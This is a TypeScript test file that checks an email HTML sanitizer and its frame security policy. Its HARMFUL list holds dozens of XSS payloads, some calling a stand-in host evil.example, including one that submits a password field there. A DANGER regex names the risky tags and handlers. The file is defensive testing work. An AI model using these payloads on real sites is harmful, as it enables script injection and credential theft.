import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { letterPolicy, tameLetter } from '../../src/api/http/letter.ts';

/** What is written in letters to make a browser run, load, submit or frame something. */
const HARMFUL = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="jav&#x09;ascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example)}</style>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<div style="background:url(https://evil.example/p.gif)">x</div>',
  '<div style="background:\\75rl(https://evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
  '<body background="https://evil.example/p.gif" onload="alert(1)">x</body>',
  '<video src="https://evil.example/v" poster="https://evil.example/p"></video>',
  '<input type=image src=https://evil.example/p.gif>',
  '<img srcset="https://evil.example/p.gif 1x">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<p id="x" name="y" class="z" data-x="w">text</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</body></html><script>alert(1)</script>',
];

const DANGER =
  /<\s*(script|iframe|object|embed|form|input|button|base|link|svg|math|template|video|audio|frame|applet|meta http)|\son\w+\s*=|javascript:|vbscript:|data:text|expression\(|url\(|srcset|background\s*=|position\s*:|@import/i;

function bodyOf(page: string): string {
  return page.slice(page.indexOf('<body>') + 6, page.lastIndexOf('</body>'));
}

describe('a letter in its frame', () => {
  test.each(HARMFUL)('%s becomes harmless', (html) => {
    expect(bodyOf(tameLetter(html, new Map(), false).html)).not.toMatch(DANGER);
    expect(bodyOf(tameLetter(html, new Map(), true).html)).not.toMatch(DANGER);
  });

  test('pieces of harmful letters put together in any order stay harmless', () => {
    const pieces = fc.array(
      fc.oneof(fc.constantFrom(...HARMFUL), fc.constantFrom('<p>', '</p>', '"', '>', '<', '<!--', 'x')),
      {
        maxLength: 12,
      },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        const { html } = tameLetter(parts.join(''), new Map(), true);
        // Words that merely speak of danger are text or a hint; what could act stands elsewhere in a tag.
        const tags = (bodyOf(html).match(/<[^>]*>?/g) ?? []).join(' ').replace(/\s(title|alt)="[^"]*"/g, '');
        expect(tags).not.toMatch(DANGER);
        expect(tags).not.toMatch(/<\s*style/i);
      }),
      { numRuns: 300 },
    );
  });

  test('remote pictures are counted and left out until asked for', () => {
    const html =
      '<p>Hi<img src="https://track.example/1.gif"><img src="//track.example/2.gif"><img src="cid:none"></p>';
    const closed = tameLetter(html, new Map(), false);
    expect(closed.blocked).toBe(2);
    expect(closed.html).not.toContain('track.example');
    const open = tameLetter(html, new Map(), true);
    expect(open.blocked).toBe(0);
    expect(open.html).toContain('https://track.example/1.gif');
    expect(open.html).toContain('https://track.example/2.gif');
  });

  test('pictures that came along are shown, whatever form their id is written in', () => {
    const inline = new Map([['logo@example.org', '/public/files/1']]);
    for (const source of [
      'cid:logo@example.org',
      'CID:Logo@Example.org',
      'cid:logo%40example.org',
      'cid:<logo@example.org>',
    ]) {
      const escaped = source.replace(/</g, '&lt;').replace(/>/g, '&gt;');
      expect(tameLetter(`<img src="${escaped}">`, inline, false).html).toContain('src="/public/files/1"');
    }
  });

  test('what a letter looks like survives', () => {
    const html =
      '<table width="600" bgcolor="#eee"><tr><td align="center" style="color:red;font-size:12px">Привет <b>мир</b></td></tr></table>';
    const body = bodyOf(tameLetter(html, new Map(), false).html);
    for (const kept of ['width="600"', 'bgcolor="#eee"', 'align="center"', 'color:red', '<b>мир</b>'])
      expect(body).toContain(kept);
  });

  test('links open elsewhere and tell nobody where from', () => {
    const body = bodyOf(
      tameLetter(
        '<a href="https://example.org/?a=1&amp;b=2" target="_self" rel="opener">x</a>',
        new Map(),
        false,
      ).html,
    );
    expect(body).toContain('target="_blank"');
    expect(body).toContain('rel="noopener noreferrer nofollow"');
  });

  test('the frame may run nothing and, until asked, load nothing from elsewhere', () => {
    expect(letterPolicy(false)).toMatch(/default-src 'none'.*sandbox/);
    expect(letterPolicy(false)).not.toMatch(/https?:|script|allow-scripts|allow-same-origin/);
    expect(letterPolicy(true)).toContain("img-src 'self' data: https: http:");
    expect(letterPolicy(true)).not.toMatch(/allow-scripts|allow-same-origin/);
  });

  test('deep nesting ends', () => {
    const html = `${'<div>'.repeat(20_000)}deep`;
    expect(tameLetter(html, new Map(), false).html.length).toBeLessThan(html.length);
  });
});
